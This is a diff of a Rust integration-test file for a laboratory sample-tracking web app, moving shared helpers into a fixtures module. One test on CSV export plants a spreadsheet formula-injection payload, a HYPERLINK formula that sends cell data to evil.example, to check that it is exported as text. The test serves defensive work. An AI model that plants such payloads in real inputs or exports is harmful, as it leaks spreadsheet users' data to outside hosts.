@@ -3,7 +3,10 @@
 
 use serde_json::{json, Value};
 
-use crate::intake::{register, setup, Intake};
+use crate::support::fixtures::{
+    approve, assign, lab_users, max_items, receive, received_with_tests, register, register_as,
+    result_for, sample_body, sample_no,
+};
 use crate::support::{Backend, TestApp};
 use crate::Test;
 
@@ -22,89 +25,10 @@ pub const TESTS: &[Test] = crate::tests![
     two_signatories_approving_at_once_issue_one_report,
 ];
 
-/// Users of the lab: custodian, two technicians, reviewer, signatory, with tokens.
-pub(crate) struct Lab {
-    pub intake: Intake,
-    pub custodian: String,
-    pub tech: String,
-    pub tech_id: i64,
-    pub tech2: String,
-    pub tech2_id: i64,
-    pub reviewer: String,
-    pub signatory: String,
-}
-
-pub(crate) fn lab_users(app: &TestApp) -> Lab {
-    let intake = setup(app, "supervision");
-    let custodian = app.user_token("keeper", &["custodian"]);
-    let tech_id = app.user("tech1", &["technician"]);
-    let tech2_id = app.user("tech2", &["technician"]);
-    Lab {
-        intake,
-        custodian,
-        tech: app.token("tech1"),
-        tech_id,
-        tech2: app.token("tech2"),
-        tech2_id,
-        reviewer: app.user_token("checker", &["reviewer"]),
-        signatory: app.user_token("boss", &["signatory"]),
-    }
-}
-
-/// A received sample with the given items assigned to tech1; returns its number and tests.
-pub(crate) fn received_with_tests(app: &TestApp, lab: &Lab, items: &[i64]) -> (String, Vec<Value>) {
-    let no = register(app, &lab.intake)["sample_no"]
-        .as_str()
-        .unwrap()
-        .to_string();
-    let (s, v) = app.send(
-        "POST",
-        "/api/v1/receipts",
-        Some(&lab.custodian),
-        json!({"scan": no, "seal_intact": true, "condition_ok": true}),
-    );
-    assert_eq!(s, 200, "{v}");
-    let assignments: Vec<Value> = items
-        .iter()
-        .map(|id| json!({"test_item_id": id, "assignee_id": lab.tech_id}))
-        .collect();
-    let (s, tests) = app.send(
-        "POST",
-        &format!("/api/v1/samples/{no}/tests"),
-        Some(&lab.custodian),
-        json!({"assignments": assignments}),
-    );
-    assert_eq!(s, 201, "{tests}");
-    (no, tests.as_array().unwrap().clone())
-}
-
-/// Ten catalogue items with a `max` limit (ids), from the shipped data.
-fn ten_max_items(app: &TestApp, token: &str) -> Vec<Value> {
-    let (_, items) = app.get("/api/v1/test-items", token);
-    items
-        .as_array()
-        .unwrap()
-        .iter()
-        .filter(|t| t["limit_kind"] == "max" && t["micro_n"].is_null())
-        .take(10)
-        .cloned()
-        .collect()
-}
-
-pub(crate) fn result_for(test: &Value, pass: bool) -> String {
-    let max = test["limit_max_text"].as_str().unwrap();
-    let v: f64 = max.parse().unwrap();
-    if pass {
-        format!("{}", v / 2.0)
-    } else {
-        format!("{}", v * 3.0)
-    }
-}
-
 fn a_sample_goes_from_registration_to_a_non_compliant_report(b: Backend) {
     let app = TestApp::spawn(b);
     let lab = lab_users(&app);
-    let items = ten_max_items(&app, &lab.tech);
+    let items = max_items(&app, &lab.tech, 10);
     assert_eq!(items.len(), 10);
     let ids: Vec<i64> = items.iter().map(|t| t["id"].as_i64().unwrap()).collect();
     let (no, tests) = received_with_tests(&app, &lab, &ids);
@@ -167,13 +91,7 @@ fn a_sample_goes_from_registration_to_a_non_compliant_report(b: Backend) {
         assert_eq!(r["status"], "accepted");
     }
     // Approval by a third person.
-    let (st, report) = app.send(
-        "POST",
-        &format!("/api/v1/samples/{no}/approve"),
-        Some(&lab.signatory),
-        json!({}),
-    );
-    assert_eq!(st, 201, "{report}");
+    let report = approve(&app, &lab.signatory, &no);
     assert_eq!(report["conclusion"], "non_compliant");
     assert_eq!(report["status"], "valid");
     let report_no = report["report_no"].as_str().unwrap().to_string();
@@ -247,7 +165,7 @@ fn an_assignment_keeps_the_limit_it_copied(b: Backend) {
     let app = TestApp::spawn(b);
     let lab = lab_users(&app);
     let admin = app.user_token("root", &["admin"]);
-    let item = &ten_max_items(&app, &admin)[0];
+    let item = &max_items(&app, &admin, 10)[0];
     let id = item["id"].as_i64().unwrap();
     let (no, tests) = received_with_tests(&app, &lab, &[id]);
     let copied = tests[0]["limit_max_text"].clone();
@@ -278,7 +196,7 @@ fn separation_of_duties_holds_whatever_roles_a_user_has(b: Backend) {
     // A user with every lab role.
     let all = app.user_token("all", &["custodian", "technician", "reviewer", "signatory"]);
     let all_id = app.get("/api/v1/me", &all).1["id"].as_i64().unwrap();
-    let item = ten_max_items(&app, &all)[0]["id"].as_i64().unwrap();
+    let item = max_items(&app, &all, 10)[0]["id"].as_i64().unwrap();
     let (no, tests) = received_with_tests(&app, &lab, &[item]);
     let t = &tests[0];
     // Only the assignee enters.
@@ -359,13 +277,7 @@ fn separation_of_duties_holds_whatever_roles_a_user_has(b: Backend) {
         json!({}),
     );
     assert_eq!(st, 403, "a reviewer of the sample cannot approve it: {e}");
-    let (st, _) = app.send(
-        "POST",
-        &format!("/api/v1/samples/{no2}/approve"),
-        Some(&lab.signatory),
-        json!({}),
-    );
-    assert_eq!(st, 201);
+    approve(&app, &lab.signatory, &no2);
 }
 
 fn a_signatory_who_entered_any_result_of_a_sample_cannot_approve_it(b: Backend) {
@@ -374,7 +286,7 @@ fn a_signatory_who_entered_any_result_of_a_sample_cannot_approve_it(b: Backend) 
     // A technician who is also a signatory.
     let both = app.user_token("techsig", &["technician", "signatory"]);
     let both_id = app.get("/api/v1/me", &both).1["id"].as_i64().unwrap();
-    let items = ten_max_items(&app, &lab.tech);
+    let items = max_items(&app, &lab.tech, 10);
     let (i1, i2) = (
         items[0]["id"].as_i64().unwrap(),
         items[1]["id"].as_i64().unwrap(),
@@ -466,26 +378,12 @@ fn a_product_name_typed_as_a_formula_is_exported_as_text(b: Backend) {
     let app = TestApp::spawn(b);
     let lab = lab_users(&app);
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
-    let mut body = crate::intake::sample_body(&lab.intake);
+    let mut body = sample_body(&lab.intake);
     body["product_name"] = json!(formula);
-    let (st, v) = app.send("POST", "/api/v1/samples", Some(&lab.intake.token), body);
-    assert_eq!(st, 201, "{v}");
-    let no = v["sample_no"].as_str().unwrap().to_string();
-    let (st, v) = app.send(
-        "POST",
-        "/api/v1/receipts",
-        Some(&lab.custodian),
-        json!({"scan": no, "seal_intact": true, "condition_ok": true}),
-    );
-    assert_eq!(st, 200, "{v}");
-    let item = &ten_max_items(&app, &lab.tech)[0];
-    let (st, tests) = app.send(
-        "POST",
-        &format!("/api/v1/samples/{no}/tests"),
-        Some(&lab.custodian),
-        json!({"assignments": [{"test_item_id": item["id"], "assignee_id": lab.tech_id}]}),
-    );
-    assert_eq!(st, 201, "{tests}");
+    let no = sample_no(&register_as(&app, &lab.intake.token, body));
+    receive(&app, &lab.custodian, &no);
+    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
+    let tests = assign(&app, &lab.custodian, &no, &[item], lab.tech_id);
     let t = &tests[0];
     let (_, r) = app.send(
         "PUT",
@@ -500,13 +398,7 @@ fn a_product_name_typed_as_a_formula_is_exported_as_text(b: Backend) {
         json!({"decision": "accept", "version": r["version"]}),
     );
     assert_eq!(st, 200);
-    let (st, r) = app.send(
-        "POST",
-        &format!("/api/v1/samples/{no}/approve"),
-        Some(&lab.signatory),
-        json!({}),
-    );
-    assert_eq!(st, 201, "{r}");
+    approve(&app, &lab.signatory, &no);
     // The non-compliant sample opened a disposal case; supervisors export the cases.
     let (st, ct, bytes) = app.bytes("/api/v1/disposals?format=csv", Some(&lab.intake.supervisor));
     assert_eq!(st, 200);
@@ -543,7 +435,7 @@ fn a_product_name_typed_as_a_formula_is_exported_as_text(b: Backend) {
 fn concurrent_reviews_of_one_test_conflict(b: Backend) {
     let app = TestApp::spawn(b);
     let lab = lab_users(&app);
-    let item = ten_max_items(&app, &lab.tech)[0]["id"].as_i64().unwrap();
+    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
     let (_, tests) = received_with_tests(&app, &lab, &[item]);
     let t = &tests[0];
     let (_, r) = app.send(
@@ -581,7 +473,7 @@ fn concurrent_reviews_of_one_test_conflict(b: Backend) {
 fn bad_results_get_4xx_and_write_nothing(b: Backend) {
     let app = TestApp::spawn(b);
     let lab = lab_users(&app);
-    let item = ten_max_items(&app, &lab.tech)[0]["id"].as_i64().unwrap();
+    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
     let (no, tests) = received_with_tests(&app, &lab, &[item]);
     let path = format!("/api/v1/tests/{}/result", tests[0]["id"]);
     let before = app.audit_count();
@@ -663,10 +555,7 @@ fn bad_results_get_4xx_and_write_nothing(b: Backend) {
     );
     assert_eq!(st, 409);
     // Assigning to a sample not yet received is a conflict.
-    let fresh = register(&app, &lab.intake)["sample_no"]
-        .as_str()
-        .unwrap()
-        .to_string();
+    let fresh = sample_no(&register(&app, &lab.intake));
     let (st, _) = app.send(
         "POST",
         &format!("/api/v1/samples/{fresh}/tests"),
@@ -679,7 +568,7 @@ fn bad_results_get_4xx_and_write_nothing(b: Backend) {
 fn many_results_are_saved_in_one_go_or_not_at_all(b: Backend) {
     let app = TestApp::spawn(b);
     let lab = lab_users(&app);
-    let items = ten_max_items(&app, &lab.tech);
+    let items = max_items(&app, &lab.tech, 10);
     let ids: Vec<i64> = items.iter().map(|t| t["id"].as_i64().unwrap()).collect();
     let (no, tests) = received_with_tests(&app, &lab, &ids);
     let mut rows: Vec<Value> = tests.iter().map(|t| json!({"test_id": t["id"], "result_text": result_for(t, true), "version": t["version"]})).collect();
@@ -713,7 +602,7 @@ fn many_results_are_saved_in_one_go_or_not_at_all(b: Backend) {
 fn a_retest_keeps_the_earlier_result_in_history(b: Backend) {
     let app = TestApp::spawn(b);
     let lab = lab_users(&app);
-    let item = ten_max_items(&app, &lab.tech)[0]["id"].as_i64().unwrap();
+    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
     let (_, tests) = received_with_tests(&app, &lab, &[item]);
     let id = tests[0]["id"].clone();
     let (_, r) = app.send(
@@ -767,40 +656,27 @@ fn a_sample_received_the_friday_before_the_holidays_is_due_after_them(b: Backend
         .set(chrono::TimeZone::with_ymd_and_hms(&chrono::Utc, 2026, 9, 18, 2, 0, 0).unwrap());
     let sampler = app.token("wangfang");
     let custodian = app.token("keeper");
-    let mut body = crate::intake::sample_body(&lab.intake);
+    let mut body = sample_body(&lab.intake);
     body["sampled_at"] = json!("2026-09-17T15:00:00+08:00");
     body["production_date"] = json!("2026-09-01");
-    let (s, v) = app.send("POST", "/api/v1/samples", Some(&sampler), body);
-    assert_eq!(s, 201, "{v}");
-    let no = v["sample_no"].as_str().unwrap().to_string();
-    let (s, v) = app.send(
-        "POST",
-        "/api/v1/receipts",
-        Some(&custodian),
-        json!({"scan": no, "seal_intact": true, "condition_ok": true}),
-    );
-    assert_eq!(s, 200, "{v}");
+    let no = sample_no(&register_as(&app, &sampler, body));
+    let v = receive(&app, &custodian, &no);
     // 20 working days counted by hand on the official calendar (Monday-to-Friday
     // counting would give 2026-10-16).
     assert_eq!(v["due_on"], "2026-10-22");
     assert_eq!(v["due_provisional"], false);
     // Tests assigned that day carry the same due date.
-    let item = ten_max_items(&app, &custodian)[0]["id"].as_i64().unwrap();
-    let (_, tests) = app.send(
-        "POST",
-        &format!("/api/v1/samples/{no}/tests"),
-        Some(&custodian),
-        json!({"assignments": [{"test_item_id": item, "assignee_id": lab.tech_id}]}),
-    );
+    let item = max_items(&app, &custodian, 10)[0]["id"].as_i64().unwrap();
+    let tests = assign(&app, &custodian, &no, &[item], lab.tech_id);
     assert_eq!(tests[0]["due_on"], "2026-10-22");
 }
 
 fn the_lab_pages_carry_a_sample_from_worklist_to_approval(b: Backend) {
-    use crate::pages::login_form;
+    use crate::support::fixtures::login_form;
     use crate::support::{csrf_of, PASSWORD};
     let app = TestApp::spawn(b);
     let lab = lab_users(&app);
-    let items = ten_max_items(&app, &lab.tech);
+    let items = max_items(&app, &lab.tech, 10);
     let ids: Vec<i64> = items
         .iter()
         .take(3)
@@ -918,7 +794,7 @@ fn the_lab_pages_carry_a_sample_from_worklist_to_approval(b: Backend) {
 fn two_signatories_approving_at_once_issue_one_report(b: Backend) {
     let app = TestApp::spawn(b);
     let lab = lab_users(&app);
-    let item = ten_max_items(&app, &lab.tech)[0]["id"].as_i64().unwrap();
+    let item = max_items(&app, &lab.tech, 10)[0]["id"].as_i64().unwrap();
     let (no, tests) = received_with_tests(&app, &lab, &[item]);
     let (_, r) = app.send(
         "PUT",
